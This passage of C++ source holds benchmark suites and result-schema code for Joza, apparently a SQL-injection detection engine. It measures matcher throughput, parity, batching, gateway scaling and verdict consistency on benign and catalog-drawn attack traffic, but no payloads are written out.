    // Occasionally force the staged tier's fallbacks: oversized (>64 byte)
    // and non-ASCII payloads take the bounded path and must stay identical.
    if (rng.NextBool(0.1)) payload += std::string(70, 'a' + i % 26);
    if (rng.NextBool(0.1) && !payload.empty()) {
      payload[rng.NextBelow(payload.size())] = static_cast<char>(0xC3);
    }
    std::string in_query = payload;
    if (rng.NextBool(0.3) && !in_query.empty()) {
      in_query.erase(rng.NextBelow(in_query.size()), 1);
    }
    cases.push_back(
        {std::string(kTemplates[rng.NextBelow(std::size(kTemplates))]) +
             in_query,
         {{http::InputKind::kGet, "p", payload},
          {http::InputKind::kCookie, "session", rng.NextToken(16)}}});
  }
  return cases;
}

std::size_t CountMismatches(const std::vector<ParityCase>& cases,
                            double threshold) {
  nti::NtiConfig staged_cfg;
  staged_cfg.threshold = threshold;
  staged_cfg.tier = nti::MatchTier::kStaged;
  nti::NtiConfig ref_cfg = staged_cfg;
  ref_cfg.tier = nti::MatchTier::kReference;
  const nti::NtiAnalyzer staged(staged_cfg);
  const nti::NtiAnalyzer reference(ref_cfg);
  std::size_t mismatches = 0;
  for (const ParityCase& c : cases) {
    if (!SameOutcome(staged.Analyze(c.query, c.inputs),
                     reference.Analyze(c.query, c.inputs))) {
      ++mismatches;
    }
  }
  return mismatches;
}

// --- Phase 4: batched admission ablation ----------------------------------

// The event-driven gateway drains ready requests in admission batches and
// installs a core::Joza::BatchScope around each, so the staged matcher's
// exact stage amortizes one automaton build+scan across the batch instead
// of rebuilding per request. This ablation replays the same benign
// many-input workload at batch sizes 1..16 and gates the batch-8 speedup.
void BatchingAblation(SuiteResult& result, const SuiteOptions& options) {
  auto app = attack::MakeTestbed();
  core::JozaConfig cfg;
  cfg.enable_pti = false;      // isolate the NTI exact stage
  cfg.query_cache = false;     // no cache may absorb the repeated passes
  cfg.structure_cache = false;
  core::Joza joza = core::Joza::Install(*app, cfg);
  auto gate = joza.MakeGate();

  // A pool of input values shared across requests (the shape concurrent
  // traffic has: the same cookies/headers on every request), embedded in
  // each request's otherwise-unique query as benign string literals.
  Rng rng(options.seed + 1234);
  constexpr std::size_t kPoolValues = 32;
  std::vector<std::string> pool;
  for (std::size_t i = 0; i < kPoolValues; ++i) {
    pool.push_back(rng.NextToken(12 + rng.NextBelow(5)));
  }
  const std::size_t count = options.quick ? 64 : 256;
  std::vector<http::Request> requests(count);
  std::vector<std::string> queries(count);
  const std::string padding(420, 'p');
  for (std::size_t i = 0; i < count; ++i) {
    http::Request& r = requests[i];
    r.path = "/post";
    for (std::size_t v = 0; v < kPoolValues; ++v) {
      const auto kind = v % 2 == 0 ? http::InputKind::kCookie
                                   : http::InputKind::kHeader;
      (v % 2 == 0 ? r.cookies : r.headers)
          .emplace_back(kind, "in" + std::to_string(v), pool[v]);
    }
    std::string q = "SELECT id, title FROM wp_posts WHERE marker_" +
                    std::to_string(i) + " = 0 AND note <> '" + padding +
                    "' OR tag IN (";
    for (const std::string& v : pool) q += "'" + v + "',";
    q += "'end') ORDER BY id LIMIT 40";
    queries[i] = std::move(q);
  }

  const int passes = options.quick ? 4 : 10;
  std::size_t blocked = 0;
  Table table({"Batch size", "checks/s", "speedup vs 1"});
  double baseline_cps = 0.0;
  double batch8_speedup = 0.0;
  for (std::size_t batch : {std::size_t{1}, std::size_t{2}, std::size_t{4},
                            std::size_t{8}, std::size_t{16}}) {
    auto run_pass = [&](bool count_blocked) {
      for (std::size_t at = 0; at < count; at += batch) {
        const std::size_t n = std::min(batch, count - at);
        std::optional<core::Joza::BatchScope> scope;
        if (batch > 1) {
          scope.emplace(joza);
          for (std::size_t k = 0; k < n; ++k) {
            scope->Add(requests[at + k]);
          }
        }
        for (std::size_t k = 0; k < n; ++k) {
          const auto decision = gate(queries[at + k], requests[at + k]);
          if (count_blocked &&
              decision.action != webapp::GateDecision::Action::kAllow) {
            ++blocked;
          }
        }
      }
    };
    run_pass(/*count_blocked=*/true);  // warmup + verdict audit
    Stopwatch watch;
    for (int p = 0; p < passes; ++p) run_pass(/*count_blocked=*/false);
    const double secs = watch.ElapsedSeconds();
    const double cps =
        static_cast<double>(count) * passes / (secs > 0 ? secs : 1e-9);
    if (batch == 1) baseline_cps = cps;
    const double speedup = cps / (baseline_cps > 0 ? baseline_cps : 1e-9);
    if (batch == 8) batch8_speedup = speedup;
    result.AddInfo("gateway.batch" + std::to_string(batch) + ".checks_per_sec",
                   cps, "qps");
    table.AddRow({std::to_string(batch), Num(cps, 0), Num(speedup, 2)});
  }
  table.Print("Ablation: batched admission (shared-value benign workload)");

  result.AddInfo("gateway.batch8_speedup_x", batch8_speedup, "x");
  result.AddExact("gateway.batch_ablation.blocked",
                  static_cast<double>(blocked));
  result.RequireGe("batch admission amortizes the exact stage (batch 8)",
                   "gateway.batch8_speedup_x", 1.3);
  result.RequireEq("batched benign workload is never flagged",
                   "gateway.batch_ablation.blocked", 0);
  app->SetQueryGate(nullptr);
}

// --- Phase 5: engine-level workload --------------------------------------

void EngineWorkload(SuiteResult& result, const SuiteOptions& options) {
  auto app = attack::MakeTestbed();
  core::Joza joza = core::Joza::Install(*app);
  app->SetQueryGate(joza.MakeGate());

  const std::size_t count = options.quick ? 150 : 600;
  const auto warm = attack::MakeMixedWorkload(count / 4, 0.1, options.seed);
  const auto steady =
      attack::MakeMixedWorkload(count, 0.1, options.seed + 100);

  LatencyRecorder recorder;
  for (const attack::WorkloadRequest& wr : warm) {
    app->Handle(wr.request);
  }
  recorder.EndWarmup();
  Stopwatch watch;
  for (const attack::WorkloadRequest& wr : steady) {
    Stopwatch per;
    app->Handle(wr.request);
    recorder.Record(per.ElapsedSeconds() * 1e3);
  }
  const double steady_secs = watch.ElapsedSeconds();
  app->SetQueryGate(nullptr);

  const core::JozaStats stats = joza.stats();
  result.AddInfo("engine.qps", recorder.Qps(steady_secs), "qps");
  result.AddLatency("engine.latency", recorder.Summary());
  // The full per-stage counter export: deterministic for a fixed seed, so
  // any drift (a matcher change, a cache change) shows up in the baseline
  // diff and becomes part of the committed trajectory.
  for (const auto& [name, value] : stats.Counters()) {
    result.AddExact(std::string("engine.") + name,
                    static_cast<double>(value));
  }

  Table table({"Engine workload", "Value"});
  table.AddRow({"requests", std::to_string(steady.size())});
  table.AddRow({"qps", Num(recorder.Qps(steady_secs), 0)});
  table.AddRow({"p50 ms", Num(recorder.Summary().p50, 3)});
  table.AddRow({"p99 ms", Num(recorder.Summary().p99, 3)});
  table.AddRow({"queries checked", std::to_string(stats.queries_checked)});
  table.AddRow({"attacks detected", std::to_string(stats.attacks_detected)});
  table.AddRow({"query cache hits", std::to_string(stats.query_cache_hits)});
  table.Print("Engine-level mixed workload (10% writes)");
}

}  // namespace

SuiteResult RunSmokeSuite(const SuiteOptions& options) {
  SuiteResult result("smoke", options);

  PtiAblation(result, options);

  // Phase 2: benign many-input throughput, gated.
  const std::vector<NtiSample> samples =
      HarvestBenignSamples(20, options.seed);
  std::size_t total_inputs = 0;
  for (const NtiSample& s : samples) total_inputs += s.inputs.size();
  const int passes = options.quick ? 8 : 30;

  Table nti_table({"NTI tier", "checks/s", "exact", "seed rej", "kernel rej",
                   "DP runs", "speedup vs ref"});
  const TierRun ref = RunTier(nti::MatchTier::kReference, samples, passes);
  const TierRun bounded = RunTier(nti::MatchTier::kBounded, samples, passes);
  const TierRun staged = RunTier(nti::MatchTier::kStaged, samples, passes);
  auto add_row = [&](const char* name, const TierRun& run) {
    nti_table.AddRow({name, Num(run.checks_per_sec, 0),
                      std::to_string(run.totals.exact_hits),
                      std::to_string(run.totals.seed_rejects),
                      std::to_string(run.totals.kernel_rejects),
                      std::to_string(run.totals.dp_runs),
                      Num(run.checks_per_sec / ref.checks_per_sec, 2)});
  };
  add_row("reference", ref);
  add_row("bounded", bounded);
  add_row("staged", staged);
  nti_table.Print("Ablation: NTI matcher tiers (" +
                  std::to_string(samples.size()) + " benign checks, " +
                  std::to_string(total_inputs) + " inputs)");

  result.AddInfo("nti.reference_checks_per_sec", ref.checks_per_sec, "qps");
  result.AddInfo("nti.bounded_checks_per_sec", bounded.checks_per_sec, "qps");
  result.AddInfo("nti.staged_checks_per_sec", staged.checks_per_sec, "qps");
  result.AddInfo("nti.staged_speedup_x",
                 staged.checks_per_sec / ref.checks_per_sec, "x");
  // The staged pipeline's per-stage counters over the harvested corpus:
  // deterministic per seed, exact-compared against the baseline.
  result.AddExact("nti.staged.exact_hits",
                  static_cast<double>(staged.totals.exact_hits));
  result.AddExact("nti.staged.seed_candidates",
                  static_cast<double>(staged.totals.seed_candidates));
  result.AddExact("nti.staged.seed_rejects",
                  static_cast<double>(staged.totals.seed_rejects));
  result.AddExact("nti.staged.kernel_rejects",
                  static_cast<double>(staged.totals.kernel_rejects));
  result.AddExact("nti.staged.dp_runs",
                  static_cast<double>(staged.totals.dp_runs));
  result.AddExact("nti.benign_flagged.reference",
                  static_cast<double>(ref.attacks));
  result.AddExact("nti.benign_flagged.bounded",
                  static_cast<double>(bounded.attacks));
  result.AddExact("nti.benign_flagged.staged",
                  static_cast<double>(staged.attacks));

  result.RequireGe("staged tier >= 2x reference throughput",
                   "nti.staged_speedup_x", 2.0);
  result.RequireEq("reference flags no benign check",
                   "nti.benign_flagged.reference", 0);
  result.RequireEq("bounded flags no benign check",
                   "nti.benign_flagged.bounded", 0);
  result.RequireEq("staged flags no benign check",
                   "nti.benign_flagged.staged", 0);

  // Phase 3: parity sweep, gated.
  const std::vector<ParityCase> catalog_cases = CatalogCases();
  const std::vector<ParityCase> random_cases =
      RandomCases(options.seed + 99, options.quick ? 80 : 300);
  Table parity({"Threshold", "Catalog diffs", "Random diffs"});
  std::size_t total_diffs = 0;
  for (double threshold : {0.0, 0.10, 0.20, 0.40}) {
    const std::size_t cd = CountMismatches(catalog_cases, threshold);
    const std::size_t rd = CountMismatches(random_cases, threshold);
    total_diffs += cd + rd;
    parity.AddRow({Num(threshold, 2),
                   std::to_string(cd) + "/" +
                       std::to_string(catalog_cases.size()),
                   std::to_string(rd) + "/" +
                       std::to_string(random_cases.size())});
  }
  parity.Print("Parity: staged vs reference (full-result equality)");
  result.AddExact("parity.catalog_cases",
                  static_cast<double>(catalog_cases.size()));
  result.AddExact("parity.random_cases",
                  static_cast<double>(random_cases.size()));
  result.AddExact("parity.total_diffs", static_cast<double>(total_diffs));
  result.RequireEq("staged is verdict-identical to reference",
                   "parity.total_diffs", 0);

  BatchingAblation(result, options);
  EngineWorkload(result, options);
  return result;
}

}  // namespace joza::benchkit
