// The data model every suite produces: named metrics with units, better-
// direction and tolerance bands, declarative gate assertions evaluated
// against those metrics, and the schema-versioned JSON form persisted as
// BENCH_<suite>.json.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "benchkit/json.h"
#include "benchkit/metrics.h"

namespace joza::benchkit {

// Bumped whenever the emitted JSON layout changes incompatibly; the
// comparator refuses to diff across schema versions.
inline constexpr int kSchemaVersion = 1;

// Which way "better" points for a metric, and therefore which side of the
// tolerance band counts as a regression.
enum class Direction {
  kHigherBetter,  // QPS, speedup ratios
  kLowerBetter,   // latency, overhead
  kExact,         // counters / parity results: any change is a regression
  kInfo,          // recorded for the trajectory, never compared
};

const char* DirectionName(Direction d);

struct Metric {
  std::string name;  // dotted path, e.g. "nti.staged_speedup_x"
  double value = 0;
  std::string unit;  // "qps", "ms", "us", "x", "count", "frac", ""
  Direction direction = Direction::kInfo;
  // Relative tolerance band as a fraction (0.10 = 10%). Ignored for kInfo;
  // must be 0 for kExact.
  double tolerance = 0;
  // Absolute grace added to the band, in the metric's unit — keeps
  // sub-millisecond timer noise from flaking latency comparisons.
  double abs_slack = 0;
};

// One evaluated gate assertion. Gates are the machine-independent checks
// (speedup ratios, parity counts, safety invariants) that fail the run by
// themselves, baseline or no baseline.
struct GateResult {
  std::string name;
  std::string metric;  // the metric the assertion reads
  std::string op;      // ">=", "<=", "=="
  double threshold = 0;
  double value = 0;  // the metric's value at evaluation time
  bool passed = false;
};

// Host / build / run facts recorded into every BENCH file.
struct RunMetadata {
  std::string hostname;
  std::string kernel;        // uname sysname + release
  unsigned hardware_threads = 0;
  std::string compiler;      // __VERSION__
  std::string build_type;    // "release" or "debug" (NDEBUG)
  std::string timestamp_utc; // ISO-8601
};

struct SuiteOptions {
  std::uint64_t seed = 2015;
  // Shrinks iteration counts for fast local runs; CI and baselines use the
  // full shape.
  bool quick = false;
};

class SuiteResult {
 public:
  SuiteResult(std::string suite, const SuiteOptions& options)
      : suite_(std::move(suite)), options_(options) {}

  const std::string& suite() const { return suite_; }
  const SuiteOptions& options() const { return options_; }
  RunMetadata& meta() { return meta_; }

  // --- Metrics -------------------------------------------------------------
  void Add(Metric m);
  // Compared against the baseline under a relative tolerance band.
  void AddCompared(const std::string& name, double value,
                   const std::string& unit, Direction direction,
                   double tolerance, double abs_slack = 0);
  // Deterministic value (counter, parity result): baseline diff on any
  // change.
  void AddExact(const std::string& name, double value,
                const std::string& unit = "count");
  // Recorded for the trajectory only; never compared (absolute throughput
  // and latency belong here — they are machine-dependent).
  void AddInfo(const std::string& name, double value,
               const std::string& unit);
  // Convenience: p50/p95/p99/mean/max/count of one phase as info metrics
  // under `prefix.`.
  void AddLatency(const std::string& prefix, const LatencySummary& summary);

  const std::vector<Metric>& metrics() const { return metrics_; }
  const Metric* FindMetric(const std::string& name) const;

  // --- Gates ---------------------------------------------------------------
  // Assert on a previously-added metric; a missing metric fails the gate.
  void RequireGe(const std::string& gate, const std::string& metric,
                 double threshold);
  void RequireLe(const std::string& gate, const std::string& metric,
                 double threshold);
  void RequireEq(const std::string& gate, const std::string& metric,
                 double threshold);

  const std::vector<GateResult>& gates() const { return gates_; }
  bool AllGatesPassed() const;
  // Prints one line per gate (offending metric, value, threshold for
  // failures) and returns AllGatesPassed().
  bool ReportGates() const;

  // --- Serialization -------------------------------------------------------
  Json ToJson() const;

 private:
  void Require(const std::string& gate, const std::string& metric,
               const char* op, double threshold);

  std::string suite_;
  SuiteOptions options_;
  RunMetadata meta_;
  std::vector<Metric> metrics_;
  std::vector<GateResult> gates_;
};

// Fills hostname / kernel / compiler / thread count / timestamp.
RunMetadata CollectRunMetadata();

}  // namespace joza::benchkit
