// churn: over-the-wire scaling of the concurrent gateway and the reader
// cost of RCU ruleset-snapshot churn, migrated from the hand-rolled
// bench_gateway_scale main().
//
// Phases:
//   1. Throughput scaling: the seed's single-threaded HTTP/1.0 server vs
//      the gateway at 1/2/4/8 workers (all Joza-protected), plus the
//      unprotected gateway floor — informational trajectory rows.
//   2. Snapshot churn (gated): the 8-worker gateway serving identical
//      traffic read-only vs under continuous ruleset swaps. Readers may
//      lose at most 25% of p99 latency and throughput (+0.25 ms absolute
//      grace for timer noise) — the regression gate for the lock-free
//      analyze path.
//   3. Verdict consistency (gated): mixed benign/attack traffic must block
//      exactly the same requests sequentially and across 8 concurrent
//      clients.
//   4. Connection scale (gated): the epoll gateway holds 10k (quick: 2k)
//      mostly-idle keep-alive connections — raising RLIMIT_NOFILE as
//      needed, since client and server fds share this process — while 8
//      active clients drive load; every idle connection must still answer
//      at the end, and QPS/p99 under the idle mass must stay within range
//      of the thread-pool model at its own maximum concurrency.
#include <sys/resource.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "attack/catalog.h"
#include "attack/exploit.h"
#include "attack/workload.h"
#include "benchkit/metrics.h"
#include "benchkit/suites.h"
#include "core/joza.h"
#include "gateway/client.h"
#include "gateway/gateway.h"
#include "webapp/http_server.h"

namespace joza::benchkit {

namespace {

struct RunResult {
  double seconds = 0;
  double p50_ms = 0;
  double p99_ms = 0;
  std::size_t requests = 0;
  std::size_t failures = 0;
  double qps() const { return seconds > 0 ? requests / seconds : 0; }
};

// Drives `clients` threads. `make_sender(c)` runs inside thread `c` and
// returns a callable `bool(std::size_t i)` that ships request i; per-thread
// state (a keep-alive connection) lives and dies with the thread, so no
// idle connection pins a gateway worker after its slice is done.
template <typename MakeSender>
RunResult DriveClients(std::size_t clients, std::size_t per_client,
                       MakeSender&& make_sender) {
  std::vector<LatencyRecorder> recorders(clients);
  std::atomic<std::size_t> failures{0};
  const auto start = std::chrono::steady_clock::now();
  std::vector<std::thread> threads;
  for (std::size_t c = 0; c < clients; ++c) {
    threads.emplace_back([&, c] {
      auto send_one = make_sender(c);
      for (std::size_t i = 0; i < per_client; ++i) {
        const auto t0 = std::chrono::steady_clock::now();
        if (!send_one(i)) failures.fetch_add(1);
        const auto t1 = std::chrono::steady_clock::now();
        recorders[c].Record(
            std::chrono::duration<double, std::milli>(t1 - t0).count());
      }
    });
  }
  for (auto& t : threads) t.join();
  const auto end = std::chrono::steady_clock::now();

  RunResult r;
  r.seconds = std::chrono::duration<double>(end - start).count();
  r.requests = clients * per_client;
  r.failures = failures.load();
  LatencyRecorder all;
  for (const auto& rec : recorders) all.Merge(rec);
  const LatencySummary summary = all.Summary();
  r.p50_ms = summary.p50;
  r.p99_ms = summary.p99;
  return r;
}

std::vector<std::string> SerializeCrawl(std::size_t count,
                                        std::uint64_t seed) {
  std::vector<std::string> raw;
  for (const attack::WorkloadRequest& wr :
       attack::MakeCrawlWorkload(count, seed)) {
    raw.push_back(gateway::SerializeRequest(wr.request, /*keep_alive=*/true));
  }
  return raw;
}

}  // namespace

SuiteResult RunChurnSuite(const SuiteOptions& options) {
  SuiteResult result("churn", options);

  const std::size_t kClients = 8;
  const std::size_t per_client = options.quick ? 40 : 150;
  const std::vector<std::string> crawl = SerializeCrawl(256, options.seed);

  Table table({"Server", "Workers", "Joza", "QPS", "p50 ms", "p99 ms",
               "Fail"});

  // --- Phase 1a: the seed's single-threaded HTTP/1.0 server --------------
  double baseline_qps = 0;
  {
    auto app = attack::MakeTestbed();
    core::Joza joza = core::Joza::Install(*app);
    app->SetQueryGate(joza.MakeGate());
    webapp::HttpServer server(*app);
    auto port = server.Start();
    if (!port.ok()) {
      std::fprintf(stderr, "baseline start failed: %s\n",
                   port.status().ToString().c_str());
      result.AddExact("setup.failed", 1);
      result.RequireEq("servers start", "setup.failed", 0);
      return result;
    }
    RunResult r = DriveClients(kClients, per_client, [&](std::size_t c) {
      return [&, c](std::size_t i) {
        // HTTP/1.0 model: fresh connection per request.
        auto resp = webapp::FetchRaw(
            port.value(), crawl[(c * per_client + i) % crawl.size()]);
        return resp.ok();
      };
    });
    baseline_qps = r.qps();
    result.AddInfo("http10.qps", r.qps(), "qps");
    result.AddInfo("http10.p99_ms", r.p99_ms, "ms");
    table.AddRow({"http/1.0 seed", "1", "yes", Num(r.qps(), 0),
                  Num(r.p50_ms, 3), Num(r.p99_ms, 3),
                  std::to_string(r.failures)});
    server.Stop();
    app->SetQueryGate(nullptr);
  }

  // --- Phase 1b: gateway at increasing worker counts ---------------------
  double gateway8_qps = 0;
  std::size_t scaling_failures = 0;
  const std::vector<std::size_t> worker_counts =
      options.quick ? std::vector<std::size_t>{1, 8}
                    : std::vector<std::size_t>{1, 2, 4, 8};
  for (std::size_t workers : worker_counts) {
    auto proto = attack::MakeTestbed();
    core::JozaConfig config;
    config.cache_capacity = 1 << 16;
    core::Joza joza = core::Joza::Install(*proto, config);
    gateway::GatewayConfig gcfg;
    gcfg.workers = workers;
    gateway::GatewayServer server([] { return attack::MakeTestbed(); }, &joza,
                                  gcfg);
    auto port = server.Start();
    if (!port.ok()) {
      std::fprintf(stderr, "gateway start failed\n");
      ++scaling_failures;
      continue;
    }
    RunResult r = DriveClients(kClients, per_client, [&](std::size_t c) {
      auto conn = std::make_shared<gateway::KeepAliveClient>(port.value());
      return [&, conn, c](std::size_t i) {
        auto resp =
            conn->RoundTrip(crawl[(c * per_client + i) % crawl.size()]);
        return resp.ok();
      };
    });
    if (workers == 8) gateway8_qps = r.qps();
    scaling_failures += r.failures;
    result.AddInfo("gateway.w" + std::to_string(workers) + ".qps", r.qps(),
                   "qps");
    result.AddInfo("gateway.w" + std::to_string(workers) + ".p99_ms",
                   r.p99_ms, "ms");
    table.AddRow({"gateway", std::to_string(workers), "yes", Num(r.qps(), 0),
                  Num(r.p50_ms, 3), Num(r.p99_ms, 3),
                  std::to_string(r.failures)});
    server.Stop();
  }

  // --- Phase 1c: gateway without Joza — the wire/threading floor ----------
  {
    gateway::GatewayConfig gcfg;
    gcfg.workers = 8;
    gateway::GatewayServer server([] { return attack::MakeTestbed(); },
                                  nullptr, gcfg);
    auto port = server.Start();
    if (port.ok()) {
      RunResult r = DriveClients(kClients, per_client, [&](std::size_t c) {
        auto conn = std::make_shared<gateway::KeepAliveClient>(port.value());
        return [&, conn, c](std::size_t i) {
          auto resp =
              conn->RoundTrip(crawl[(c * per_client + i) % crawl.size()]);
          return resp.ok();
        };
      });
      result.AddInfo("gateway.nojoza.qps", r.qps(), "qps");
      table.AddRow({"gateway", "8", "no", Num(r.qps(), 0), Num(r.p50_ms, 3),
                    Num(r.p99_ms, 3), std::to_string(r.failures)});
      server.Stop();
    } else {
      ++scaling_failures;
    }
  }

  table.Print("Gateway scaling (8 keep-alive clients, crawl workload)");
  if (baseline_qps > 0) {
    result.AddInfo("gateway.w8_vs_http10_x", gateway8_qps / baseline_qps,
                   "x");
    std::printf("\nGateway x8 vs single-threaded HTTP/1.0 baseline: %.2fx\n",
                gateway8_qps / baseline_qps);
  }
  result.AddExact("scaling.transport_failures",
                  static_cast<double>(scaling_failures));
  result.RequireEq("no transport failures while scaling",
                   "scaling.transport_failures", 0);

  // --- Phase 2: snapshot churn — lock-free readers vs RCU swaps -----------
  auto churn_pass = [&](bool churn) -> std::pair<RunResult, std::size_t> {
    auto proto = attack::MakeTestbed();
    core::JozaConfig config;
    config.cache_capacity = 1 << 16;
    core::Joza joza = core::Joza::Install(*proto, config);
    gateway::GatewayConfig gcfg;
    gcfg.workers = 8;
    // Pinned to the thread model: this gate isolates the RCU reader cost
    // of snapshot swaps. On the event loop a CPU-heavy churner also causes
    // head-of-line scheduling stalls across a shard's connections, which
    // inflates p99 for reasons unrelated to reader-side locking (the
    // connection-scale phase below covers the event loop's tail).
    gcfg.io_model = gateway::GatewayConfig::IoModel::kThreads;
    gateway::GatewayServer server([] { return attack::MakeTestbed(); }, &joza,
                                  gcfg);
    auto port = server.Start();
    if (!port.ok()) {
      std::fprintf(stderr, "churn gateway start failed\n");
      return {RunResult{}, 0};
    }
    std::atomic<bool> stop{false};
    std::thread churner;
    if (churn) {
      churner = std::thread([&] {
        std::size_t i = 0;
        while (!stop.load(std::memory_order_relaxed)) {
          joza.OnSourcesChanged(
              {{"churn.php",
                "$q = 'SELECT col" + std::to_string(i++) + " FROM t';"}});
          std::this_thread::sleep_for(std::chrono::milliseconds(2));
        }
      });
    }
    RunResult r = DriveClients(kClients, per_client, [&](std::size_t c) {
      auto conn = std::make_shared<gateway::KeepAliveClient>(port.value());
      return [&, conn, c](std::size_t i) {
        auto resp =
            conn->RoundTrip(crawl[(c * per_client + i) % crawl.size()]);
        return resp.ok();
      };
    });
    stop.store(true);
    if (churner.joinable()) churner.join();
    const std::size_t swaps = joza.stats().ruleset_swaps;
    server.Stop();
    return {r, swaps};
  };
  const auto [read_only, ro_swaps] = churn_pass(false);
  const auto [churned, churn_swaps] = churn_pass(true);

  Table churn_table({"Mode", "Swaps", "QPS", "p50 ms", "p99 ms", "Fail"});
  churn_table.AddRow({"read-only", std::to_string(ro_swaps),
                      Num(read_only.qps(), 0), Num(read_only.p50_ms, 3),
                      Num(read_only.p99_ms, 3),
                      std::to_string(read_only.failures)});
  churn_table.AddRow({"snapshot churn", std::to_string(churn_swaps),
                      Num(churned.qps(), 0), Num(churned.p50_ms, 3),
                      Num(churned.p99_ms, 3),
                      std::to_string(churned.failures)});
  churn_table.Print("Reader cost of ruleset snapshot churn (8 workers)");

  result.AddInfo("churn.readonly.qps", read_only.qps(), "qps");
  result.AddInfo("churn.readonly.p99_ms", read_only.p99_ms, "ms");
  result.AddInfo("churn.churned.qps", churned.qps(), "qps");
  result.AddInfo("churn.churned.p99_ms", churned.p99_ms, "ms");
  result.AddInfo("churn.swaps", static_cast<double>(churn_swaps), "count");

  // Regression gate: churn may cost readers at most 25% of p99/throughput.
  // The small absolute grace keeps sub-millisecond timer noise from
  // flaking CI while still catching reader-side lock contention, which
  // shows up as multi-millisecond p99 jumps.
  const double p99_limit = read_only.p99_ms * 1.25 + 0.25;
  const double qps_floor = read_only.qps() * 0.75;
  result.RequireLe("churn reader p99 within 25% of read-only (+0.25 ms)",
                   "churn.churned.p99_ms", p99_limit);
  result.RequireGe("churn throughput within 25% of read-only",
                   "churn.churned.qps", qps_floor);
  result.AddExact("churn.swapped_at_all", churn_swaps > 0 ? 1 : 0);
  result.RequireEq("the churn pass actually swapped snapshots",
                   "churn.swapped_at_all", 1);

  // --- Phase 3: verdict consistency, sequential vs concurrent -------------
  std::vector<std::pair<std::string, bool>> mixed;  // raw request, is_attack
  for (const attack::WorkloadRequest& wr :
       attack::MakeCrawlWorkload(96, options.seed + 7)) {
    mixed.push_back(
        {gateway::SerializeRequest(wr.request, /*keep_alive=*/true), false});
  }
  for (const auto* plugin : attack::TestbedPlugins()) {
    // Raw payloads without per-plugin transport encoding: what matters here
    // is that sequential and concurrent serving agree on the SAME bytes,
    // not that every exploit lands.
    attack::Exploit e = attack::OriginalExploit(*plugin);
    mixed.push_back(
        {gateway::SerializeRequest(
             http::Request::Get(plugin->route, {{plugin->param, e.payload}}),
             /*keep_alive=*/true),
         true});
  }

  // Sequential reference: one app, one engine, in-process Handle calls.
  std::size_t sequential_blocked = 0;
  std::size_t sequential_attacks = 0;
  {
    auto app = attack::MakeTestbed();
    core::Joza joza = core::Joza::Install(*app);
    app->SetQueryGate(joza.MakeGate());
    for (const auto& [raw, is_attack] : mixed) {
      auto request = http::ParseRawRequest(raw);
      if (!request.ok()) continue;
      if (app->Handle(request.value()).status == 500) ++sequential_blocked;
    }
    sequential_attacks = joza.stats().attacks_detected;
    app->SetQueryGate(nullptr);
  }

  // Concurrent: same traffic interleaved across 8 client threads.
  std::size_t concurrent_blocked = 0;
  std::size_t concurrent_attacks = 0;
  {
    auto proto = attack::MakeTestbed();
    core::JozaConfig config;
    config.cache_capacity = 1 << 16;
    core::Joza joza = core::Joza::Install(*proto, config);
    gateway::GatewayConfig gcfg;
    gcfg.workers = 8;
    gateway::GatewayServer server([] { return attack::MakeTestbed(); }, &joza,
                                  gcfg);
    auto port = server.Start();
    if (port.ok()) {
      std::atomic<std::size_t> blocked{0};
      std::vector<std::thread> threads;
      for (std::size_t c = 0; c < kClients; ++c) {
        threads.emplace_back([&, c] {
          gateway::KeepAliveClient client(port.value());
          for (std::size_t i = c; i < mixed.size(); i += kClients) {
            auto resp = client.RoundTrip(mixed[i].first);
            if (resp.ok() && resp->find("500") < resp->find("\r\n")) {
              blocked.fetch_add(1);
            }
          }
        });
      }
      for (auto& t : threads) t.join();
      concurrent_blocked = blocked.load();
      concurrent_attacks = joza.stats().attacks_detected;
      server.Stop();
    }
  }

  Table consistency({"Mode", "Blocked (500)", "Attacks detected"});
  consistency.AddRow({"sequential", std::to_string(sequential_blocked),
                      std::to_string(sequential_attacks)});
  consistency.AddRow({"gateway x8", std::to_string(concurrent_blocked),
                      std::to_string(concurrent_attacks)});
  consistency.Print("Verdict consistency, mixed benign/attack traffic");

  result.AddExact("consistency.sequential_blocked",
                  static_cast<double>(sequential_blocked));
  result.AddExact("consistency.concurrent_blocked",
                  static_cast<double>(concurrent_blocked));
  result.AddExact("consistency.blocked_diff",
                  static_cast<double>(sequential_blocked > concurrent_blocked
                                          ? sequential_blocked -
                                                concurrent_blocked
                                          : concurrent_blocked -
                                                sequential_blocked));
  result.RequireEq("concurrent verdicts identical to sequential",
                   "consistency.blocked_diff", 0);

  // --- Phase 4: connection scale — idle keep-alive mass on the event loop -
  {
    // Both the client herd and the server's connection table live in this
    // one process, so the descriptor budget is split in half. Raise the
    // soft limit (and, where privileged, the hard limit) before sizing.
    rlimit lim{};
    ::getrlimit(RLIMIT_NOFILE, &lim);
    const rlim_t desired = 24576;
    if (lim.rlim_cur < desired) {
      rlimit want = lim;
      want.rlim_max = std::max<rlim_t>(lim.rlim_max, desired);
      want.rlim_cur = std::min<rlim_t>(desired, want.rlim_max);
      if (::setrlimit(RLIMIT_NOFILE, &want) != 0) {
        want = lim;
        want.rlim_cur = lim.rlim_max;  // unprivileged: take soft -> hard
        ::setrlimit(RLIMIT_NOFILE, &want);
      }
      ::getrlimit(RLIMIT_NOFILE, &lim);
    }
    const std::size_t ceiling =
        lim.rlim_cur > 1024
            ? (static_cast<std::size_t>(lim.rlim_cur) - 1024) / 2
            : 0;
    const std::size_t target =
        std::min<std::size_t>(options.quick ? 2000 : 10000, ceiling);
    result.AddInfo("connscale.fd_limit",
                   static_cast<double>(lim.rlim_cur), "fds");
    result.AddInfo("connscale.target", static_cast<double>(target), "conns");

    auto make_config = [] {
      gateway::GatewayConfig gcfg;
      gcfg.workers = 8;
      gcfg.event_shards = 4;
      gcfg.listen_backlog = 1024;
      gcfg.queue_capacity = 4096;
      // The idle herd must outlive the whole phase; the 5 s default would
      // have the timer wheel reap it mid-measurement.
      gcfg.keepalive_timeout = std::chrono::milliseconds(120000);
      return gcfg;
    };
    auto run_load = [&](gateway::GatewayConfig::IoModel model,
                        core::Joza& joza_engine,
                        std::size_t* sustained_out) -> RunResult {
      gateway::GatewayConfig gcfg = make_config();
      gcfg.io_model = model;
      gateway::GatewayServer server([] { return attack::MakeTestbed(); },
                                    &joza_engine, gcfg);
      auto port = server.Start();
      if (!port.ok()) {
        std::fprintf(stderr, "connscale gateway start failed\n");
        return RunResult{};
      }
      std::vector<std::unique_ptr<gateway::KeepAliveClient>> herd;
